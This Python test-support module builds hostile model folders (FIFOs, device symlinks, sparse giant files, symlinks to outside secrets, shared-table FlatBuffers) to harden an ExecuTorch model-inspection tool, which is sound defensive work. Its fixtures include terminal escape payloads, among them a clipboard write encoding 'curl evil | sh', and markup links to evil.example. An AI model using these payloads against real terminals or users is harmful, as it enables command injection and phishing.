"""The standing hostile corpus (issues 33 and 44): model folders from a stranger, built from real
files; round two's programs and payloads are in `hostile_programs.py` (`CASES` holds both).

Each case is a generator `build(folder, scale) -> program path` that lays out one folder an
attacker could ship beside (or instead of) a `.pte`: the side files the adapter finds by name
replaced by FIFOs, devices, directories, sparse giants, symlinks out of the folder, names the
system refuses; ETRecords, ETDumps and programs re-serialised by ExecuTorch's own serializers with
hostile structure (one handle repeated, JSON bloat, shared tables, zero latency, escape sequences
and links in names). `scale` multiplies the hostile part (the issue asks for each case at ten
times its size too).

`run_cases` (in a subprocess: `python -m tests.support.hostile SPEC.json`) runs every CLI command
and the Model Explorer conversion on each case's folder with a hard time limit, and reports per
command the outcome, the seconds and CPU seconds, the peak memory it added, any control byte that
reached the terminal streams and any text Model Explorer would draw as a link, and per case the
process's peak memory.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import signal
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path
from types import FrameType
from typing import Any

from tests.support.examples import EXAMPLES
from tests.support.hostile_lists import LIST_NAME, RUNTIME_LIST_CASES
from tests.support.hostile_programs import EXTRA_COMMANDS, PROGRAM_CASES
from tests.support.links import link_like

# The programs the cases are built around (small, with the side files the finders look for).
ARM = "lrn_cortex_m_qdq_ethosu85"  # .pte, .etrecord, <stem>_artifacts/ with .tosa and a report
PROFILED = "cond"  # .pte and the .etdp of its runs
PTD = "xnnpack_ptd"  # .pte whose weights are in xnnpack_weights.ptd
TOSA_SIDECAR = "output_tag0_TOSA-1.0+INT+int16+int4+cf.tosa"

Builder = Callable[[Path, int], Path]
CASES: dict[str, Builder] = {}


def case(fn: Builder) -> Builder:
    CASES[fn.__name__.removeprefix("case_")] = fn
    return fn


def _copy_arm(folder: Path, name: str = ARM, side_files: bool = True) -> Path:
    """The Arm example with its ETRecord and its artifacts folder, as `<name>.pte`."""
    folder.mkdir(parents=True, exist_ok=True)
    pte = folder / f"{name}.pte"
    shutil.copyfile(EXAMPLES / f"{ARM}.pte", pte)
    if side_files:
        shutil.copyfile(EXAMPLES / f"{ARM}.etrecord", folder / f"{name}.etrecord")
        shutil.copytree(EXAMPLES / f"{ARM}_artifacts", folder / f"{name}_artifacts")
    return pte


def _copy_profiled(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    pte = folder / f"{PROFILED}.pte"
    shutil.copyfile(EXAMPLES / f"{PROFILED}.pte", pte)
    return pte


def _copy_ptd(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    pte = folder / f"{PTD}.pte"
    shutil.copyfile(EXAMPLES / f"{PTD}.pte", pte)
    shutil.copyfile(EXAMPLES / "xnnpack_weights.ptd", folder / "xnnpack_weights.ptd")
    return pte


# --- the folder itself: FIFOs, devices, directories, sparse giants, symlinks, names ---------------


@case
def case_fifos(folder: Path, scale: int) -> Path:
    """A FIFO under every side-file name (a read of one blocks forever)."""
    pte = _copy_arm(folder)
    stem = pte.stem
    art = folder / f"{stem}_artifacts"
    names = [f"{stem}.ns.etdp", "etdump.cycles.bin", "fifo.ptd", f"{stem}_etrecord.bin"]
    names += [f"etdump.{i}MHz.bin" for i in range(1, scale)]
    for name in names:
        os.mkfifo(folder / name)
    for name in ("output_tag7_TOSA-1.0+INT.tosa", "partition_report.txt", "debug.json"):
        (art / name).unlink(missing_ok=True)
        os.mkfifo(art / name)
    return pte


@case
def case_fifo_program(folder: Path, scale: int) -> Path:
    """The program itself is a FIFO (Model Explorer's cache hashed it before converting)."""
    folder.mkdir(parents=True, exist_ok=True)
    pte = folder / f"{ARM}.pte"
    os.mkfifo(pte)
    return pte


@case
def case_fifo_alone(folder: Path, scale: int) -> Path:
    """One FIFO under a scaled ETDump name and one as `.ptd` (the single-candidate path)."""
    pte = _copy_profiled(folder)
    os.mkfifo(folder / f"{pte.stem}.cycles.etdp")
    os.mkfifo(folder / "weights.ptd")
    return pte


@case
def case_devices(folder: Path, scale: int) -> Path:
    """Side files that are `/dev/zero` (a read never ends) by a symlink."""
    pte = _copy_profiled(folder)
    for name in ("etdump.150MHz.bin", f"{pte.stem}.etrecord", "zero.ptd"):
        os.symlink("/dev/zero", folder / name)
    return pte


@case
def case_sparse_giants(folder: Path, scale: int) -> Path:
    """A sparse `<stem>.etdp` (300 MB x scale) and a sparse `.tosa` sidecar (190 MB x scale),
    each starting with the real file's bytes."""
    pte = _copy_arm(folder)
    etdp = folder / f"{pte.stem}.etdp"
    shutil.copyfile(EXAMPLES / f"{PROFILED}.etdp", etdp)
    os.truncate(etdp, 300_000_000 * scale)
    os.truncate(folder / f"{pte.stem}_artifacts" / TOSA_SIDECAR, 190_000_000 * scale)
    return pte


@case
def case_directories(folder: Path, scale: int) -> Path:
    """Directories under side-file names."""
    pte = _copy_arm(folder)
    (folder / f"{pte.stem}.etrecord").unlink()
    for name in (f"{pte.stem}.etrecord", "etdump.bin", "dir.ptd", f"{pte.stem}.us.etdp"):
        (folder / name).mkdir()
    art = folder / f"{pte.stem}_artifacts"
    (art / "output_tag5_TOSA-1.0+INT.tosa").mkdir()
    (art / "debug.json").mkdir()
    return pte


def _outside(folder: Path) -> Path:
    """A folder beside the case's folder, with real side files in it."""
    out = folder.parent / f"{folder.name}.outside"
    shutil.copytree(EXAMPLES / f"{ARM}_artifacts", out / "artifacts")
    shutil.copyfile(EXAMPLES / f"{ARM}.etrecord", out / "record.etrecord")
    shutil.copyfile(EXAMPLES / f"{PROFILED}.etdp", out / "dump.etdp")
    shutil.copyfile(EXAMPLES / "xnnpack_weights.ptd", out / "weights.ptd")
    (out / "secret.txt").write_text("SECRET-BYTES-OUTSIDE\n")
    return out


@case
def case_symlinks_out(folder: Path, scale: int) -> Path:
    """Side files and the artifacts folder as symlinks to files outside the program's folder,
    and a symlink loop."""
    pte = _copy_arm(folder)
    stem = pte.stem
    out = _outside(folder)
    shutil.rmtree(folder / f"{stem}_artifacts")
    (folder / f"{stem}.etrecord").unlink()
    os.symlink(out / "artifacts", folder / f"{stem}_artifacts")
    os.symlink(out / "record.etrecord", folder / f"{stem}.etrecord")
    os.symlink(out / "dump.etdp", folder / "etdump.bin")
    os.symlink(out / "secret.txt", folder / f"{stem}.cycles.etdp")
    os.symlink(out / "weights.ptd", folder / "weights.ptd")
    os.symlink(out / "secret.txt", folder / "secret.ptd")
    os.symlink(f"{stem}_etrecord.bin", folder / f"{stem}_etrecord.bin")  # ELOOP
    return pte


@case
def case_long_names(folder: Path, scale: int) -> Path:
    """A program named with 250 characters: every side-file name made from it is too long."""
    return _copy_arm(folder, "m" * 246, side_files=False)


VICTIM_TEXT = "a file outside the program's folder, which no command may write\n"


@case
def case_report_symlink(folder: Path, scale: int) -> Path:
    """`report.html` in the folder is a symlink to a file outside it (`report -o` of that name
    wrote through it); `graph.json` the same for `export`."""
    pte = _copy_profiled(folder)
    victim = folder.parent / f"{folder.name}.victim.txt"
    victim.write_text(VICTIM_TEXT)
    os.symlink(victim, folder / "report.html")
    return pte


# --- side files made by ExecuTorch's serializers with hostile structure -----------------------


def _rewrite_zip(src: Path, dst: Path, parts: dict[str, bytes]) -> None:
    """`src` (a zip) with the named parts replaced, written as `ETRecord.save` writes it."""
    import zipfile

    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, parts.get(info.filename, zin.read(info)))


def _etrecord_parts(name: str = ARM) -> tuple[dict[str, Any], dict[str, Any]]:
    import zipfile

    with zipfile.ZipFile(EXAMPLES / f"{name}.etrecord") as z:
        handles = json.loads(z.read("debug_handle_map"))
        edge = json.loads(z.read("edge_dialect_exported_program/forward"))
    return handles, edge


def _write_etrecord(pte: Path, handles: dict[str, Any], edge: dict[str, Any]) -> None:
    parts = {
        "debug_handle_map": json.dumps(handles).encode(),
        "edge_dialect_exported_program/forward": json.dumps(edge).encode(),
    }
    _rewrite_zip(EXAMPLES / f"{ARM}.etrecord", pte.with_suffix(".etrecord"), parts)


@case
def case_etdump_zero_latency(folder: Path, scale: int) -> Path:
    """The example's ETDump with every tick scaled to zero (and a second, negative, as `.ns`)."""
    from tests.support.etdumps import rescaled_etdump

    pte = _copy_profiled(folder)
    rescaled_etdump(EXAMPLES / f"{PROFILED}.etdp", folder / f"{PROFILED}.etdp", 0.0)
    return pte


@case
def case_etdump_backwards(folder: Path, scale: int) -> Path:
    """The example's ETDump with every event ending before it starts (negative durations),
    written by ExecuTorch's ETDump serializer."""
    import struct

    from executorch.devtools.etdump.serialize import (
        deserialize_from_etdump_flatcc,
        serialize_to_etdump_flatcc,
    )

    pte = _copy_profiled(folder)
    etdump = deserialize_from_etdump_flatcc((EXAMPLES / f"{PROFILED}.etdp").read_bytes())
    for run in etdump.run_data:
        for event in run.events or []:
            pe = event.profile_event
            if pe is not None:
                pe.start_time, pe.end_time = pe.end_time, pe.start_time
    data = serialize_to_etdump_flatcc(etdump)
    (folder / f"{PROFILED}.etdp").write_bytes(struct.pack("<I", len(data)) + data)
    return pte


# --- programs re-serialised by ExecuTorch's own serializer ----------------------------------------

# What a name in a file may try on a terminal: set the window title, write a command into the
# clipboard (OSC 52), erase its own line, a C1 CSI, a bell, a right-to-left override.
TERMINAL_PAYLOAD = "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2K\r\x9b31m\x07\u202e"
# What Model Explorer could render from an attribute or an error: a markdown link, a bare URL, a
# short link, an image tag that fetches a URL.
MARKUP_PAYLOAD = (
    "[download the fixed model](https://evil.example/fix) see https://evil.example/bare "
    "<img src=https://evil.example/img.png>"
)
LINK_SPECS = {
    "link": "[download the fixed model](https://evil.example/fix)",
    "url": "https://evil.example/bare",
    "golink": "go/evil.example",
}


def _reserialised(src: Path, dst: Path, edit: Callable[[Any], None]) -> None:
    """`src` through ExecuTorch's deserializer, `edit`ed, and back through its serializer."""
    from executorch.exir._serialize._program import deserialize_pte_binary, serialize_pte_binary

    pte_file = deserialize_pte_binary(src.read_bytes())
    edit(pte_file.program)
    dst.write_bytes(bytes(serialize_pte_binary(pte_file)))


@case
def case_names_with_escapes(folder: Path, scale: int) -> Path:
    """Operator names, a method name and compile-spec values carrying terminal sequences and
    markup (scale: the payload repeated)."""
    from executorch.exir.backend.compile_spec_schema import CompileSpec

    pte = _copy_arm(folder, side_files=False)

    def edit(program: Any) -> None:
        plan = program.execution_plan[0]
        for op in plan.operators:
            op.name = TERMINAL_PAYLOAD * scale + op.name
        for d in plan.delegates:
            d.compile_specs.append(
                CompileSpec("notes", (MARKUP_PAYLOAD + TERMINAL_PAYLOAD).encode() * scale)
            )
            d.compile_specs += [CompileSpec(k, v.encode()) for k, v in LINK_SPECS.items()]

    _reserialised(EXAMPLES / f"{ARM}.pte", pte, edit)
    return pte


@case
def case_long_artifact_path(folder: Path, scale: int) -> Path:
    """`debug_artifact_path` of 300 x scale characters (every folder made from it is too long for
    the system), beside the real artifacts folder."""
    pte = _copy_arm(folder)

    def edit(program: Any) -> None:
        for d in program.execution_plan[0].delegates:
            for spec in d.compile_specs:
                if spec.key == "debug_artifact_path":
                    spec.value = ("a" * 300 * scale).encode()

    _reserialised(EXAMPLES / f"{ARM}.pte", pte, edit)
    return pte


@case
def case_markup_file_name(folder: Path, scale: int) -> Path:
    """A program named like an image tag, corrupt after its header (the error names the file)."""
    folder.mkdir(parents=True, exist_ok=True)
    pte = folder / "<img src=https:evil.example>x.pte"
    data = bytearray((EXAMPLES / f"{ARM}.pte").read_bytes())
    data[0:4] = b"\xff\xff\xff\x7f"  # a root offset past the end: one PteFormatError
    pte.write_bytes(bytes(data))
    return pte


# --- shared tables: vectors pointing many times at one table --------------------------------


def _point_all_at_last(data: bytearray, vector: int, base: int = 0) -> None:
    """Every uoffset of the table vector whose length sits at `vector` (relative to `base`, where
    the FlatBuffer starts) now points at the table its last element points at: the file is the
    same size, and one table stands for all."""
    n = int.from_bytes(data[base + vector : base + vector + 4], "little")
    last = base + vector + 4 * n  # the last element's slot
    target = last + int.from_bytes(data[last : last + 4], "little")
    for k in range(n):
        elem = base + vector + 4 + 4 * k
        data[elem : elem + 4] = (target - elem).to_bytes(4, "little")


def _vector_pos(table: Any, slot: int) -> int:
    return int(table._ref(slot, "vector"))


@case
def case_shared_instructions(folder: Path, scale: int) -> Path:
    """A program re-serialised with 100 x scale instructions in its chain (copies of its first),
    then every entry of the chain's instruction vector pointed at one of them."""
    from copy import deepcopy

    from pte_adapter.container._generated import program_schema as S
    from pte_adapter.container.pte import PteFile

    pte = _copy_profiled(folder)
    n = 100 * scale

    def more_instructions(program: Any) -> None:
        chain = program.execution_plan[0].chains[0]
        chain.instructions = [deepcopy(chain.instructions[0]) for _ in range(n)]

    _reserialised(EXAMPLES / f"{PROFILED}.pte", pte, more_instructions)
    data = bytearray(pte.read_bytes())
    root = PteFile(bytes(data), pte.name).root
    plan = next(root.iter_tables(S.Program.execution_plan, "execution_plan"))
    chain = next(plan.iter_tables(S.ExecutionPlan.chains, "chains"))
    _point_all_at_last(data, _vector_pos(chain, S.Chain.instructions))
    pte.write_bytes(bytes(data))
    return pte


@case
def case_shared_methods(folder: Path, scale: int) -> Path:
    """A program re-serialised with 20 x scale methods (copies of its one), then every entry of
    its method vector pointed at one of them."""
    from copy import deepcopy

    from pte_adapter.container._generated import program_schema as S
    from pte_adapter.container.pte import PteFile

    pte = _copy_profiled(folder)

    def more_methods(program: Any) -> None:
        program.execution_plan = [deepcopy(program.execution_plan[0]) for _ in range(20 * scale)]

    _reserialised(EXAMPLES / f"{PROFILED}.pte", pte, more_methods)
    data = bytearray(pte.read_bytes())
    root = PteFile(bytes(data), pte.name).root
    _point_all_at_last(data, _vector_pos(root, S.Program.execution_plan))
    pte.write_bytes(bytes(data))
    return pte


@case
def case_shared_tosa_operators(folder: Path, scale: int) -> Path:
    """The Arm example's sidecar `.tosa` (written by the TOSA serializer) with every entry of its
    main block's operator vector pointed at one operator (scale: a second such sidecar per
    step)."""
    from pte_adapter.container.flatbuf import FlatBuffer
    from pte_adapter.delegates.tosa._generated import tosa_schema as T

    pte = _copy_arm(folder)
    sidecar = folder / f"{ARM}_artifacts" / TOSA_SIDECAR
    data = bytearray(sidecar.read_bytes())
    root = FlatBuffer(bytes(data), sidecar.name).root()
    region = next(root.iter_tables(T.SLOTS["TosaGraph"]["regions"], "regions"))
    block = next(region.iter_tables(T.SLOTS["TosaRegion"]["blocks"], "blocks"))
    _point_all_at_last(data, _vector_pos(block, T.SLOTS["TosaBasicBlock"]["operators"]))
    sidecar.write_bytes(bytes(data))
    for k in range(1, scale):
        shutil.copyfile(sidecar, sidecar.with_name(f"output_tag{10 + k}_TOSA-1.0+INT.tosa"))
    return pte


@case
def case_shared_events(folder: Path, scale: int) -> Path:
    """The example's ETDump with its first run's events repeated to 200 x scale by ExecuTorch's
    ETDump serializer, then every entry pointed at one event."""
    from copy import deepcopy

    from executorch.devtools.etdump.serialize import (
        deserialize_from_etdump_flatcc,
        serialize_to_etdump_flatcc,
    )

    from pte_adapter.container._generated.etdump_schema import TABLES
    from pte_adapter.container.flatbuf import FlatBuffer

    pte = _copy_profiled(folder)
    etdump = deserialize_from_etdump_flatcc((EXAMPLES / f"{PROFILED}.etdp").read_bytes())
    run = etdump.run_data[0]
    events = run.events or []
    run.events = [deepcopy(events[k % len(events)]) for k in range(200 * scale)]
    data = bytearray(serialize_to_etdump_flatcc(etdump))  # no size prefix: the root is at 0
    root = FlatBuffer(bytes(data), "etdump").root()
    first_run = next(root.iter_tables(TABLES["ETDump"]["run_data"].slot, "run_data"))
    _point_all_at_last(data, _vector_pos(first_run, TABLES["RunData"]["events"].slot))
    (folder / f"{PROFILED}.etdp").write_bytes(bytes(data))
    return pte


CASES.update(RUNTIME_LIST_CASES)  # hostile runtime operator lists (`ops --runtime-ops`)
# The debug-buffer cases (issue 43) and the ETRecord graphs' (issue 45) are in their own
# modules; importing them registers them.
from tests.support import hostile_debug, hostile_etrecord  # noqa: E402, F401

# Round two (issue 44): programs and payloads whose few bytes multiplied the work after reading.
CASES.update(PROGRAM_CASES)

# --- running them -----------------------------------------------------------------------------

COMMANDS: tuple[tuple[str, ...], ...] = (
    ("summary", "{pte}"),
    ("summary", "--json", "{pte}"),
    ("check", "--max-partitions", "99", "{pte}"),
    ("size", "{pte}"),
    ("diff", "{pte}", "{pte}"),
    ("profile", "{pte}"),
    ("numerics", "{pte}"),
    ("report", "{pte}", "-o", "{folder}/report.html"),
    ("export", "{pte}", "-o", "{out}/graph.json"),
    ("ops", "{pte}", "--yaml"),
    (
        "ops",
        "{pte}",
        "--runtime-ops",
        "{folder}/" + LIST_NAME,
        "--runtime-backends",
        "XnnpackBackend",
    ),
    ("sync", "{pte}", "-o", "{out}/mapping.json"),
)
# The names an ETRecord goes by beside a program: each one there is also opened as graphs.
ETRECORD_NAMES = ("{stem}.etrecord", "{stem}_etrecord.bin", "etrecord.bin")
EXIT_INTERNAL = 4
HARD_LIMIT_S = 20.0


class HostileTimeout(BaseException):
    pass


def _alarm(signum: int, frame: FrameType | None) -> None:
    raise HostileTimeout


@dataclass
class Run:
    what: str
    status: str  # "ok" | "format" (exit 3, or a PteFormatError) | "usage" | "internal" | "timeout"
    seconds: float
    output: str = ""
    control_bytes: list[str] = field(default_factory=list)
    cpu: float = 0.0  # CPU seconds (what the input costs, on a busy machine too)
    mb: float = 0.0  # the peak memory it added (MiB over the resident size when it started)
    links: list[str] = field(default_factory=list)  # texts Model Explorer would draw as links


# C0 except newline and tab, DEL, C1: what a terminal acts on.
TERMINAL_CONTROLS = frozenset(chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0))) - {
    "\n",
    "\t",
}


def _limited(fn: Callable[[], str], what: str = "") -> Run:
    """`fn` run with the hard time limit: its status, text, seconds, CPU seconds and peak memory."""
    old = signal.signal(signal.SIGALRM, _alarm)
    signal.setitimer(signal.ITIMER_REAL, HARD_LIMIT_S)
    with contextlib.suppress(OSError):
        _reset_peak()
    start = _status_mb("VmRSS")
    t0, c0 = time.perf_counter(), time.process_time()
    try:
        status, text = "ok", fn()
    except HostileTimeout:
        status, text = "timeout", f"over {HARD_LIMIT_S} s"
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
    seconds, cpu = time.perf_counter() - t0, time.process_time() - c0
    return Run(what, status, seconds, text, cpu=cpu, mb=_status_mb("VmHWM") - start)


def _cli(argv: list[str]) -> str:
    from pte_adapter.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(argv)
    return f"exit {code}\n{out.getvalue()}{err.getvalue()}"


def _explorer(pte: Path) -> str:
    """What Model Explorer calls (the adapter, through its cache), and its JSON of the graphs."""
    from pte_adapter.errors import PteFormatError
    from pte_adapter.explorer.adapter import PteAdapter
    from pte_adapter.render.model_explorer import graphs_to_json

    try:
        graphs = graphs_to_json(PteAdapter().convert(str(pte), {})["graphs"])["graphs"]
        links = "".join(f"\nlink: {where}" for where in link_like(graphs))
        return f"exit 0\n{len(json.dumps(graphs))} bytes of graphs{links}"
    except PteFormatError as e:
        return f"exit 3\n{e}"


def _status(status: str, text: str) -> str:
    if status != "ok":
        return status
    code = int(text.split("\n", 1)[0].removeprefix("exit "))
    return {0: "ok", 1: "ok", 2: "usage", 3: "format"}.get(code, "internal")


def _library_roots() -> tuple[str, ...]:
    """Where Python, the installed packages and this project's sources live: what a command may
    open besides the program's folder and its output folder (lazy imports, Model Explorer's
    files)."""
    import pte_adapter

    roots = {sys.prefix, sys.base_prefix, sys.exec_prefix, *sys.path}
    roots.add(str(Path(pte_adapter.__file__).resolve().parents[1]))
    return tuple(os.path.realpath(r) for r in roots if r and r != os.getcwd() and r != "/")


def watch_opens() -> list[str]:
    """Every path opened (Python's `open` audit event: `open()`, `os.open`, `io.open_code`) or
    listed (`os.scandir`, `os.listdir`) from now on in this process, resolved. An audit hook
    cannot be removed: call it in a forked child."""
    seen: list[str] = []

    def hook(event: str, args: tuple[Any, ...]) -> None:
        if event in ("open", "os.scandir", "os.listdir") and args:
            path = args[0]
            if not isinstance(path, (str, bytes, os.PathLike)):
                return
            name = os.fsdecode(path)
            flags = args[2] if event == "open" and len(args) > 2 else None
            if isinstance(flags, int) and flags & getattr(os, "O_NOFOLLOW", 0):
                # The last component is never followed (a symlink there fails with ELOOP).
                head, tail = os.path.split(name)
                seen.append(os.path.join(os.path.realpath(head or "."), tail))
            else:
                seen.append(os.path.realpath(name))

    sys.addaudithook(hook)
    return seen


def outside(seen: list[str], allowed: tuple[str, ...]) -> list[str]:
    """The paths of `seen` in none of the `allowed` folders (or files)."""
    roots = tuple(os.path.realpath(a) for a in allowed) + _library_roots()
    return sorted(
        {
            p
            for p in seen
            if not any(p == r or p.startswith(r.rstrip(os.sep) + os.sep) for r in roots)
        }
    )


def run_case(pte: Path, out: Path, commands: tuple[tuple[str, ...], ...] = COMMANDS) -> list[Run]:
    """Every command (or those given) and the Model Explorer conversion on one case's program."""
    runs = []
    for command in commands:
        argv = [a.format(pte=pte, out=out, folder=pte.parent) for a in command]
        run = _limited(lambda argv=argv: _cli(argv), " ".join(command[:2]))
        run.control_bytes = sorted(
            {f"U+{ord(c):04X}" for c in run.output if c in TERMINAL_CONTROLS}
        )
        runs.append(run)
    runs.append(_limited(lambda: _explorer(pte), "model-explorer"))
    for name in ETRECORD_NAMES:
        record = pte.parent / name.format(stem=pte.stem)
        # Opened as graphs (a symlink a user opens is read where it leads: not a side file).
        if os.path.lexists(record) and not os.path.islink(record):
            label = f"model-explorer {record.name}"
            runs.append(_limited(lambda record=record: _explorer(record), label))
    for run in runs:
        run.status = _status(run.status, run.output)
        run.links = [line[6:] for line in run.output.splitlines() if line.startswith("link: ")]
    return runs


def _status_mb(key: str) -> float:
    """A figure of /proc/self/status in MiB (`VmRSS`, `VmHWM`: the peak since the last reset)."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1]) / 1024
    raise KeyError(key)


def _reset_peak() -> None:
    """Start the peak (`VmHWM`) afresh at the current RSS (Linux 4.0+: `clear_refs` 5)."""
    Path("/proc/self/clear_refs").write_text("5")


def _in_child(
    name: str, pte: Path, out: Path, commands: tuple[tuple[str, ...], ...] = COMMANDS
) -> dict[str, Any]:
    """Run one case in a forked child (its own peak memory, a clean state for the next case)."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: run, send the runs, leave without cleanup
        os.close(read_end)
        code = 0
        try:
            out.mkdir(parents=True, exist_ok=True)
            _reset_peak()
            start = _status_mb("VmRSS")
            seen = watch_opens()
            with in_folder(out):
                runs = [asdict(r) for r in run_case(pte, out, commands)]
            mb = _status_mb("VmHWM") - start
            opened_outside = outside(
                seen, (str(pte.parent), str(out), os.devnull, "/proc/self", f"/proc/{os.getpid()}")
            )
            payload = json.dumps({"runs": runs, "mb": mb, "outside": opened_outside}).encode()
        except BaseException as e:
            payload, code = json.dumps(f"{type(e).__name__}: {e}").encode(), 1
        with os.fdopen(write_end, "wb") as w:
            w.write(payload)
        os._exit(code)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as r:
        payload = r.read()
    _, status = os.waitpid(pid, 0)
    result = json.loads(payload) if payload else f"child died: status {status}"
    if isinstance(result, str):
        return {"case": name, "crash": result}
    return {"case": name, **result}


@contextlib.contextmanager
def in_folder(folder: Path) -> Iterator[None]:
    old = Path.cwd()
    os.chdir(folder)
    try:
        yield
    finally:
        os.chdir(old)


def run_in_subprocess(
    cases: list[list[str]], root: Path, commands: tuple[tuple[str, ...], ...] | None = None
) -> list[dict[str, Any]]:
    """Run `cases` ([name, program path]) through `main` in a fresh interpreter with this
    checkout's sources first on its path; the records it printed, one per case."""
    from tests.support.examples import run_support_module

    spec: dict[str, Any] = {"cases": cases, "out": str(root / "out")}
    if commands is not None:
        spec["commands"] = commands
    spec_path = root / "spec.json"
    spec_path.write_text(json.dumps(spec))
    out = run_support_module("tests.support.hostile", [str(spec_path)], 900, "the hostile runner")
    return [json.loads(line) for line in out.splitlines()]


def main(spec_path: str) -> int:
    """Run the cases of a spec (`{"cases": [[name, program path], ...], "out": folder}`, and
    optionally `"commands"`: the argument lists to run instead of COMMANDS), each in
    a forked child, and print one JSON line per case: its runs and the memory it added (the
    child's peak over its resident size when it started)."""
    spec: dict[str, Any] = json.loads(Path(spec_path).read_text())
    commands = tuple(tuple(c) for c in spec.get("commands", COMMANDS))
    import pte_adapter.cli
    import pte_adapter.explorer.convert  # noqa: F401 - imports are not the case's memory

    warm = str(EXAMPLES / f"{ARM}.pte")  # every lazy import of a command, done once
    for command in COMMANDS:
        _cli([a.format(pte=warm, out=spec["out"], folder=spec["out"]) for a in command])
    _explorer(Path(warm))
    for name, pte in spec["cases"]:
        extra = EXTRA_COMMANDS.get(name.split("@")[0], ())
        record = _in_child(name, Path(pte), Path(spec["out"]) / name, commands + extra)
        print(json.dumps(record), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]))
